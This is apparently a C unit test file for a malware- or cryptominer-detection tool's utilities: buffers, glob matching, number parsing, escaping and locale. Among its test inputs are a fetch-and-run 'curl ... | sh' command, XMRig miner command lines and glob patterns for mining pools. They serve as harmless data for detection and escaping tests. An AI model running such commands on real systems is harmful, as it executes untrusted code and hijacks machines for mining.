/* test_util.c - unit tests of util.c: capped buffers, glob, integers, escaping, locale */
#include <errno.h>
#include <signal.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "internal.h"
#include "t.h"

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void test_buf(void)
{
	mt_buf b;

	TEST_START("buf: fill to the cap, then refuse without appending");
	mt_buf_init(&b, 10);
	ASSERT_INT_EQ(mt_buf_add(&b, "0123456", 7), MT_OK);
	ASSERT_INT_EQ(b.err, MT_OK);
	ASSERT_INT_EQ(mt_buf_add(&b, "789x", 4), MT_ERR_TOOBIG);
	ASSERT_INT_EQ(b.err, MT_ERR_TOOBIG); /* kept: a record writer looks once at the end */
	ASSERT_SIZE_EQ(b.len, 7);
	ASSERT_STR_EQ(b.data, "0123456");
	ASSERT_INT_EQ(mt_buf_adds(&b, "789"), MT_OK);
	ASSERT_SIZE_EQ(b.len, 10);
	ASSERT_STR_EQ(b.data, "0123456789");
	ASSERT_INT_EQ(mt_buf_addc(&b, 'x'), MT_ERR_TOOBIG);
	ASSERT_INT_EQ(mt_buf_printf(&b, "%d", 1), MT_ERR_TOOBIG);
	ASSERT_INT_EQ(mt_buf_add(&b, "", 0), MT_OK);
	ASSERT_SIZE_EQ(b.len, 10);
	ASSERT_STR_EQ(b.data, "0123456789");
	ASSERT_TRUE(b.alloc <= b.cap + 1);
	mt_buf_free(&b);
	TEST_DONE();

	TEST_START("buf: one add larger than the cap on an empty buffer");
	mt_buf_init(&b, 4);
	ASSERT_INT_EQ(mt_buf_add(&b, "hello", 5), MT_ERR_TOOBIG);
	ASSERT_SIZE_EQ(b.len, 0);
	ASSERT_INT_EQ(mt_buf_add(&b, "x", SIZE_MAX), MT_ERR_TOOBIG); /* no overflow */
	ASSERT_INT_EQ(mt_buf_add(&b, "x", SIZE_MAX - 1), MT_ERR_TOOBIG);
	ASSERT_SIZE_EQ(b.len, 0);
	ASSERT_TRUE(b.data == NULL || b.data[0] == '\0');
	mt_buf_free(&b);
	TEST_DONE();

	TEST_START("buf: cap 0 holds nothing");
	mt_buf_init(&b, 0);
	ASSERT_INT_EQ(mt_buf_addc(&b, 'a'), MT_ERR_TOOBIG);
	ASSERT_SIZE_EQ(b.len, 0);
	size_t len = 99;
	char *d = mt_buf_take(&b, &len);
	REQUIRE_NOT_NULL(d);
	ASSERT_SIZE_EQ(len, 0);
	ASSERT_STR_EQ(d, "");
	free(d);
	TEST_DONE();

	TEST_START("buf: printf longer than the small stack buffer, and over the cap");
	mt_buf_init(&b, 2000);
	char big[1500];
	memset(big, 'q', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	ASSERT_INT_EQ(mt_buf_printf(&b, "<%s>", big), MT_OK);
	ASSERT_SIZE_EQ(b.len, 1501);
	ASSERT_INT_EQ(b.data[0], '<');
	ASSERT_INT_EQ(b.data[1500], '>');
	ASSERT_INT_EQ(mt_buf_printf(&b, "%s", big), MT_ERR_TOOBIG);
	ASSERT_SIZE_EQ(b.len, 1501);
	ASSERT_INT_EQ(b.data[1501], '\0');
	d = mt_buf_take(&b, &len);
	ASSERT_SIZE_EQ(len, 1501);
	ASSERT_NULL(b.data);
	ASSERT_SIZE_EQ(b.len, 0);
	free(d);
	/* usable again after take, with the same cap */
	ASSERT_INT_EQ(mt_buf_adds(&b, "again"), MT_OK);
	ASSERT_STR_EQ(b.data, "again");
	ASSERT_INT_EQ(b.err, MT_OK); /* take cleared the failure of the printf above */
	ASSERT_INT_EQ(mt_buf_printf(&b, "%s%s", big, big), MT_ERR_TOOBIG);
	ASSERT_INT_EQ(b.err, MT_ERR_TOOBIG);
	mt_buf_reset(&b);
	ASSERT_INT_EQ(b.err, MT_OK);
	ASSERT_SIZE_EQ(b.len, 0);
	ASSERT_STR_EQ(b.data, "");
	mt_buf_free(&b);
	TEST_DONE();

	TEST_START("buf: many small adds grow correctly up to the cap");
	mt_buf_init(&b, 100000);
	mt_err e = MT_OK;
	size_t added = 0;
	while ((e = mt_buf_addc(&b, (char)('a' + added % 26))) == MT_OK)
		added++;
	ASSERT_INT_EQ(e, MT_ERR_TOOBIG);
	ASSERT_SIZE_EQ(added, 100000);
	ASSERT_SIZE_EQ(b.len, 100000);
	ASSERT_INT_EQ(b.data[99999], 'a' + 99999 % 26);
	ASSERT_INT_EQ(b.data[100000], '\0');
	ASSERT_TRUE(b.alloc <= 100001);
	mt_buf_free(&b);
	TEST_DONE();
}

static void test_glob(void)
{
	TEST_START("glob: literals, stars, question marks");
#define G(p, s) mt_glob_match(p, s, strlen(s))
	ASSERT_TRUE(G("abc", "abc"));
	ASSERT_FALSE(G("abc", "abcd"));
	ASSERT_FALSE(G("abcd", "abc"));
	ASSERT_TRUE(G("", ""));
	ASSERT_FALSE(G("", "a"));
	ASSERT_TRUE(G("*", ""));
	ASSERT_TRUE(G("*", "anything at all"));
	ASSERT_TRUE(G("**", "x"));
	ASSERT_TRUE(G("a*c", "ac"));
	ASSERT_TRUE(G("a*c", "abbbbc"));
	ASSERT_FALSE(G("a*c", "abbbbd"));
	ASSERT_FALSE(G("a*c", "xac"));
	ASSERT_TRUE(G("*a*b*c", "xxaxxbxxc"));
	ASSERT_FALSE(G("*a*b*c", "xxcxxbxxa"));
	ASSERT_TRUE(G("*.sh", "/tmp/x.sh"));
	ASSERT_FALSE(G("*.sh", "/tmp/x.shx"));
	ASSERT_TRUE(G("*stratum+tcp://*", "./xmrig -o stratum+tcp://p.example:3333"));
	ASSERT_TRUE(G("a?c", "abc"));
	ASSERT_FALSE(G("a?c", "ac"));
	ASSERT_FALSE(G("a?c", "abbc"));
	ASSERT_TRUE(G("???", "xyz"));
	ASSERT_FALSE(G("???", "xy"));
	ASSERT_TRUE(G("*?", "x"));
	ASSERT_FALSE(G("*?", ""));
	ASSERT_TRUE(G("a*", "a"));
	ASSERT_TRUE(G("a***", "a"));
	ASSERT_TRUE(G("*ab", "aab"));   /* needs one step of backtracking */
	ASSERT_TRUE(G("*aab", "aaab"));
	ASSERT_TRUE(G("C:\\Windows\\*", "c:\\windows\\x.exe")); /* '\\' is a literal */
	TEST_DONE();

	TEST_START("glob: case-insensitive");
	ASSERT_TRUE(G("XMRIG*", "xmrig --donate-level=1"));
	ASSERT_TRUE(G("*Pool.MineXMR.com*", "-o POOL.minexmr.COM:4444"));
	ASSERT_FALSE(G("*xmrig*", "xmr-ig"));
	TEST_DONE();

	TEST_START("glob: only [s, s+n) is looked at");
	char nonul[3] = {'a', 'b', 'c'}; /* no NUL: reading past n would be a bug */
	ASSERT_TRUE(mt_glob_match("abc", nonul, 3));
	ASSERT_TRUE(mt_glob_match("ab", nonul, 2));
	ASSERT_FALSE(mt_glob_match("abc", nonul, 2));
	ASSERT_TRUE(mt_glob_match("a*", nonul, 3));
	ASSERT_TRUE(mt_glob_match("*", nonul, 0));
	TEST_DONE();
#undef G

	TEST_START("glob: pathological pattern returns quickly");
	size_t n = 200000;
	char *s = malloc(n);
	REQUIRE_NOT_NULL(s);
	memset(s, 'a', n);
	alarm(20); /* a backtracking blow-up would take forever: die rather than hang */
	double t0 = now_s();
	ASSERT_FALSE(mt_glob_match("*a*a*a*a*b", s, n));
	ASSERT_FALSE(mt_glob_match("*a*a*a*a*a*a*a*a*a*a*a*a*b", s, n));
	ASSERT_FALSE(mt_glob_match("a*a*a*a*a*a*a*a*a*a*?b", s, n));
	ASSERT_TRUE(mt_glob_match("*a*a*a*a*a", s, n));
	s[n - 1] = 'b';
	ASSERT_TRUE(mt_glob_match("*a*a*a*a*b", s, n));
	double dt = now_s() - t0;
	alarm(0);
	ASSERT_TRUE(dt < 2.0);
	free(s);
	TEST_DONE();
}

static void test_parse_u64(void)
{
	uint64_t v = 12345;
#define P(str, max) mt_parse_u64(str, strlen(str), max, &v)
	TEST_START("parse_u64: valid numbers");
	ASSERT_INT_EQ(P("0", 10), 0);
	ASSERT_U64_EQ(v, 0);
	ASSERT_INT_EQ(P("65535", 65535), 0);
	ASSERT_U64_EQ(v, 65535);
	ASSERT_INT_EQ(P("00443", 65535), 0);
	ASSERT_U64_EQ(v, 443);
	ASSERT_INT_EQ(P("18446744073709551615", UINT64_MAX), 0);
	ASSERT_U64_EQ(v, UINT64_MAX);
	ASSERT_INT_EQ(mt_parse_u64("1234", 2, 100, &v), 0); /* only n bytes */
	ASSERT_U64_EQ(v, 12);
	ASSERT_INT_EQ(P("5", 5), 0);
	ASSERT_U64_EQ(v, 5);
	TEST_DONE();

	TEST_START("parse_u64: over the maximum and overflow");
	v = 777;
	ASSERT_INT_EQ(P("65536", 65535), -1);
	ASSERT_INT_EQ(P("99999", 65535), -1);
	ASSERT_INT_EQ(P("18446744073709551616", UINT64_MAX), -1);
	ASSERT_INT_EQ(P("18446744073709551620", UINT64_MAX), -1);
	ASSERT_INT_EQ(P("99999999999999999999", UINT64_MAX), -1);
	ASSERT_INT_EQ(P("184467440737095516150", UINT64_MAX), -1);
	ASSERT_INT_EQ(P("11", 10), -1);
	/* a single digit larger than a small maximum */
	ASSERT_INT_EQ(P("7", 5), -1);
	ASSERT_INT_EQ(P("9", 0), -1);
	ASSERT_INT_EQ(P("1", 0), -1);
	ASSERT_INT_EQ(P("19", 9), -1);
	ASSERT_U64_EQ(v, 777); /* untouched on failure */
	TEST_DONE();

	TEST_START("parse_u64: not a number");
	ASSERT_INT_EQ(P("", 10), -1);
	ASSERT_INT_EQ(P("-1", 10), -1);
	ASSERT_INT_EQ(P("+1", 10), -1);
	ASSERT_INT_EQ(P(" 1", 10), -1);
	ASSERT_INT_EQ(P("1 ", 10), -1);
	ASSERT_INT_EQ(P("12a", 1000), -1);
	ASSERT_INT_EQ(P("0x10", 1000), -1);
	ASSERT_U64_EQ(v, 777);
	TEST_DONE();
#undef P
}

/* Escapes s[0..n) for a terminal with max and returns the text (static buffer). */
static const char *term(const char *s, size_t n, size_t max)
{
	static char out[4096];
	mt_buf b;
	mt_buf_init(&b, 1 << 20);
	mt_err e = mt_escape_term(&b, s, n, max);
	snprintf(out, sizeof(out), "%s", e == MT_OK && b.data ? b.data : e == MT_OK ? "" : "<ERR>");
	mt_buf_free(&b);
	return out;
}
#define TERM(lit) term(lit, sizeof(lit) - 1, 512)

static void test_escape_term(void)
{
	TEST_START("escape_term: printable ASCII and valid UTF-8 pass");
	ASSERT_STR_EQ(TERM("curl -fsSL http://x/a.sh | sh"), "curl -fsSL http://x/a.sh | sh");
	ASSERT_STR_EQ(TERM("挖矿进程 café"), "挖矿进程 café");
	ASSERT_STR_EQ(TERM("\xc2\xa0nbsp"), "\xc2\xa0nbsp"); /* U+00A0: first non-C1 */
	ASSERT_STR_EQ(TERM("\xf0\x9f\x98\x80"), "\xf0\x9f\x98\x80");
	ASSERT_STR_EQ(TERM(""), "");
	TEST_DONE();

	TEST_START("escape_term: control characters, DEL and ESC sequences");
	ASSERT_STR_EQ(TERM("a\x1b[31mred\x1b[0m"), "a\\x1b[31mred\\x1b[0m");
	ASSERT_STR_EQ(TERM("\x1b]0;title\x07"), "\\x1b]0;title\\x07");
	ASSERT_STR_EQ(TERM("l1\nl2\r\t\x7f"), "l1\\x0al2\\x0d\\x09\\x7f");
	ASSERT_STR_EQ(TERM("a\0b"), "a\\x00b");
	ASSERT_STR_EQ(TERM("\x08\x08\x08"), "\\x08\\x08\\x08");
	TEST_DONE();

	TEST_START("escape_term: backslash doubled so escapes cannot be forged");
	ASSERT_STR_EQ(TERM("C:\\Windows"), "C:\\\\Windows");
	ASSERT_STR_EQ(TERM("\\x1b"), "\\\\x1b");
	TEST_DONE();

	TEST_START("escape_term: invalid UTF-8");
	ASSERT_STR_EQ(TERM("\xff\xfe"), "\\xff\\xfe");
	ASSERT_STR_EQ(TERM("a\x80z"), "a\\x80z");              /* lone continuation */
	ASSERT_STR_EQ(TERM("\xe4\xb8"), "\\xe4\\xb8");         /* cut sequence at end */
	ASSERT_STR_EQ(TERM("\xe4\xb8z"), "\\xe4\\xb8z");       /* cut sequence inside */
	ASSERT_STR_EQ(TERM("\xc0\xaf"), "\\xc0\\xaf");         /* overlong '/' */
	ASSERT_STR_EQ(TERM("\xe0\x80\xaf"), "\\xe0\\x80\\xaf"); /* overlong 3-byte */
	ASSERT_STR_EQ(TERM("\xed\xa0\x80"), "\\xed\\xa0\\x80"); /* UTF-16 surrogate */
	ASSERT_STR_EQ(TERM("\xf4\x90\x80\x80"), "\\xf4\\x90\\x80\\x80"); /* > U+10FFFF */
	ASSERT_STR_EQ(TERM("\xf8\x88\x80\x80\x80"), "\\xf8\\x88\\x80\\x80\\x80");
	TEST_DONE();

	TEST_START("escape_term: C1 controls encoded as UTF-8");
	ASSERT_STR_EQ(TERM("\xc2\x9b" "31m"), "\\xc2\\x9b31m"); /* CSI */
	ASSERT_STR_EQ(TERM("\xc2\x80"), "\\xc2\\x80");
	ASSERT_STR_EQ(TERM("\xc2\x85"), "\\xc2\\x85");          /* NEL */
	ASSERT_STR_EQ(TERM("\xc2\x9f"), "\\xc2\\x9f");
	ASSERT_STR_EQ(TERM("\x9b"), "\\x9b");                   /* raw 8-bit CSI */
	TEST_DONE();

	TEST_START("escape_term: long strings are cut with ...");
	char longs[600];
	memset(longs, 'a', sizeof(longs));
	const char *o = term(longs, sizeof(longs), 512);
	ASSERT_SIZE_EQ(strlen(o), 515);
	ASSERT_STR_EQ(o + 512, "...");
	ASSERT_INT_EQ(o[511], 'a');
	o = term(longs, 512, 512); /* exactly max: nothing cut */
	ASSERT_SIZE_EQ(strlen(o), 512);
	ASSERT_STR_LACKS(o, "...");
	ASSERT_STR_EQ(term("abcdef", 6, 3), "abc...");
	ASSERT_STR_EQ(term("\x1b\x1b\x1b", 3, 2), "\\x1b\\x1b...");
	ASSERT_STR_EQ(term("abc", 3, 0), "...");
	TEST_DONE();

	TEST_START("escape_term: the buffer's cap is honoured");
	mt_buf b;
	mt_buf_init(&b, 8);
	ASSERT_INT_EQ(mt_escape_term(&b, "\x1b\x1b\x1b", 3, 512), MT_ERR_TOOBIG);
	ASSERT_TRUE(b.len <= 8);
	mt_buf_free(&b);
	TEST_DONE();
}

static const char *json(const char *s, size_t n)
{
	static char out[4096];
	mt_buf b;
	mt_buf_init(&b, 1 << 20);
	mt_err e = mt_escape_json(&b, s, n);
	snprintf(out, sizeof(out), "%s", e == MT_OK && b.data ? b.data : e == MT_OK ? "" : "<ERR>");
	mt_buf_free(&b);
	return out;
}
#define JSON(lit) json(lit, sizeof(lit) - 1)

/* Every byte of a JSON string body: no raw control character, no lone quote. */
static int json_body_ok(const char *s)
{
	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
		if (*p < 0x20 || *p == 0x7f)
			return 0;
		if (*p == '"')
			return 0;
		if (*p == '\\') {
			p++;
			if (*p == 'u') {
				for (int i = 1; i <= 4; i++)
					if (!strchr("0123456789abcdefABCDEF", p[i]) || !p[i])
						return 0;
				p += 4;
			} else if (!*p || !strchr("\"\\/bfnrt", *p)) {
				return 0;
			}
		}
	}
	return 1;
}

static void test_escape_json(void)
{
	TEST_START("escape_json: quotes, backslash, control characters");
	ASSERT_STR_EQ(JSON("say \"hi\""), "say \\\"hi\\\"");
	ASSERT_STR_EQ(JSON("C:\\x"), "C:\\\\x");
	ASSERT_STR_EQ(JSON("a\nb\tc\rd"), "a\\nb\\tc\\rd");
	ASSERT_STR_EQ(JSON("\x01\x1b[31m\x1f"), "\\u0001\\u001b[31m\\u001f");
	ASSERT_STR_EQ(JSON("\x7f"), "\\u007f");
	ASSERT_STR_EQ(JSON("a\0b"), "a\\u0000b");
	TEST_DONE();

	TEST_START("escape_json: valid UTF-8 (CJK) untouched");
	ASSERT_STR_EQ(JSON("恶意计划任务：下载并执行程序"), "恶意计划任务：下载并执行程序");
	ASSERT_STR_EQ(JSON("\xf0\x9f\x98\x80"), "\xf0\x9f\x98\x80");
	TEST_DONE();

	TEST_START("escape_json: invalid bytes become the text \\xNN");
	ASSERT_STR_EQ(JSON("\xff"), "\\\\xff");
	ASSERT_STR_EQ(JSON("a\x80z"), "a\\\\x80z");
	ASSERT_STR_EQ(JSON("\xe4\xb8"), "\\\\xe4\\\\xb8");
	ASSERT_STR_EQ(JSON("\xc0\xaf"), "\\\\xc0\\\\xaf");
	ASSERT_STR_EQ(JSON("\xed\xa0\x80"), "\\\\xed\\\\xa0\\\\x80");
	ASSERT_STR_EQ(JSON("\xc2\x9b"), "\\u009b"); /* C1 control as UTF-8 */
	ASSERT_STR_EQ(JSON("\xc2\xa0"), "\xc2\xa0");
	TEST_DONE();

	TEST_START("escape_json: output is always a valid string body");
	static const char nasty[] = "\"\\\x01\x1b]0;x\x07\xff\xfe\xc2\x9b\xe4\xb8\xad\x80\x7f"
	                            "\xf4\x90\x80\x80\xc3\n\\u0000";
	const char *o = json(nasty, sizeof(nasty) - 1);
	ASSERT_TRUE(json_body_ok(o));
	ASSERT_STR_CONTAINS(o, "\xe4\xb8\xad"); /* the valid character in the middle */
	int first_bad = -1;
	for (unsigned c = 0; c < 256 && first_bad < 0; c++) {
		char one = (char)c;
		if (!json_body_ok(json(&one, 1)))
			first_bad = (int)c;
	}
	ASSERT_INT_EQ(first_bad, -1);
	TEST_DONE();
}

static void test_locale(void)
{
	TEST_START("lang_from_locale: POSIX precedence LC_ALL > LC_MESSAGES > LANG");
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, NULL, NULL), MT_LANG_EN);
	ASSERT_INT_EQ(mt_lang_from_locale("", "", ""), MT_LANG_EN);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, NULL, "zh_CN.UTF-8"), MT_LANG_ZH);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, NULL, "en_US.UTF-8"), MT_LANG_EN);
	ASSERT_INT_EQ(mt_lang_from_locale("C", NULL, "zh_CN.UTF-8"), MT_LANG_EN);
	ASSERT_INT_EQ(mt_lang_from_locale("zh_CN.UTF-8", "en_US", "en_US"), MT_LANG_ZH);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, "en_US.UTF-8", "zh_CN.UTF-8"), MT_LANG_EN);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, "zh_TW.UTF-8", "en_US.UTF-8"), MT_LANG_ZH);
	ASSERT_INT_EQ(mt_lang_from_locale("", "zh_CN", "en_US"), MT_LANG_ZH); /* empty = unset */
	ASSERT_INT_EQ(mt_lang_from_locale("", "", "zh"), MT_LANG_ZH);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, NULL, "zh.GB18030"), MT_LANG_ZH);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, NULL, "zhx_CN"), MT_LANG_EN);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, NULL, "z"), MT_LANG_EN);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, NULL, "C.UTF-8"), MT_LANG_EN);
	ASSERT_INT_EQ(mt_lang_from_locale(NULL, NULL, "POSIX"), MT_LANG_EN);
	TEST_DONE();
}

static void test_severity(void)
{
	static const char *const names[] = {"info", "low", "medium", "high", "critical"};
	mt_severity s;

	TEST_START("severity: parse and name round trip");
	for (int i = 0; i < MT_SEV_COUNT; i++) {
		s = (mt_severity)99;
		ASSERT_INT_EQ(mt_severity_parse(names[i], &s), MT_OK);
		ASSERT_INT_EQ(s, i);
		ASSERT_STR_EQ(mt_severity_name((mt_severity)i), names[i]);
	}
	ASSERT_INT_LT(MT_SEV_INFO, MT_SEV_LOW);
	ASSERT_INT_LT(MT_SEV_HIGH, MT_SEV_CRITICAL);
	TEST_DONE();

	TEST_START("severity: anything else is refused");
	s = MT_SEV_LOW;
	ASSERT_INT_EQ(mt_severity_parse("crit", &s), MT_ERR_INVAL);
	ASSERT_INT_EQ(mt_severity_parse("critical ", &s), MT_ERR_INVAL);
	ASSERT_INT_EQ(mt_severity_parse("", &s), MT_ERR_INVAL);
	ASSERT_INT_EQ(mt_severity_parse(NULL, &s), MT_ERR_INVAL);
	ASSERT_INT_EQ(mt_severity_parse("highest", &s), MT_ERR_INVAL);
	ASSERT_INT_EQ(s, MT_SEV_LOW);
	ASSERT_STR_EQ(mt_severity_name((mt_severity)5), "unknown");
	ASSERT_STR_EQ(mt_severity_name((mt_severity)-1), "unknown");
	TEST_DONE();
}

static void test_misc(void)
{
	TEST_START("strerror: pinned numbers, every code described");
	ASSERT_INT_EQ(MT_ERR_NOMEM, 1);
	ASSERT_INT_EQ(MT_ERR_NOTREG, 6);
	ASSERT_INT_EQ(MT_ERR_PARSE, 8);
	ASSERT_INT_EQ(MT_ERR_NOTDIR, 14);
	for (int i = 0; i <= MT_ERR_NOTDIR; i++) {
		ASSERT_NOT_NULL(mt_strerror((mt_err)i));
		ASSERT_STR_NE(mt_strerror((mt_err)i), "unknown error");
		for (int j = 0; j < i; j++)
			if (strcmp(mt_strerror((mt_err)i), mt_strerror((mt_err)j)) == 0)
				ASSERT_INT_EQ(i, j);
	}
	ASSERT_STR_EQ(mt_strerror((mt_err)1000), "unknown error");
	TEST_DONE();

	TEST_START("string helpers");
	ASSERT_TRUE(mt_strcaseeq("XMRig", "xmrig"));
	ASSERT_FALSE(mt_strcaseeq("xmrig", "xmri"));
	ASSERT_FALSE(mt_strcaseeq("xmri", "xmrig"));
	ASSERT_STR_EQ(mt_basename("/a/b/c"), "c");
	ASSERT_STR_EQ(mt_basename("c"), "c");
	ASSERT_STR_EQ(mt_basename("/a/"), "");
	char *d = mt_strndup("abcdef", 3);
	ASSERT_STR_EQ(d, "abc");
	free(d);
	ASSERT_NULL(mt_strdup(NULL));
	uint8_t bytes[] = {0x00, 0x0f, 0xa5, 0xff};
	char hex[9];
	mt_hex(bytes, 4, hex);
	ASSERT_STR_EQ(hex, "000fa5ff");
	ASSERT_INT_EQ(mt_errno_to_err(ENOENT), MT_ERR_NOENT);
	ASSERT_INT_EQ(mt_errno_to_err(ELOOP), MT_ERR_LOOP);
	ASSERT_INT_EQ(mt_errno_to_err(EXDEV), MT_ERR_ESCAPE);
	ASSERT_INT_EQ(mt_errno_to_err(EACCES), MT_ERR_PERM);
	ASSERT_INT_EQ(mt_errno_to_err(ENOTDIR), MT_ERR_NOTDIR);
	ASSERT_INT_EQ(mt_errno_to_err(EIO), MT_ERR_IO);
	TEST_DONE();
}

int main(void)
{
	test_buf();
	test_glob();
	test_parse_u64();
	test_escape_term();
	test_escape_json();
	test_locale();
	test_severity();
	test_misc();
	return T_DONE();
}
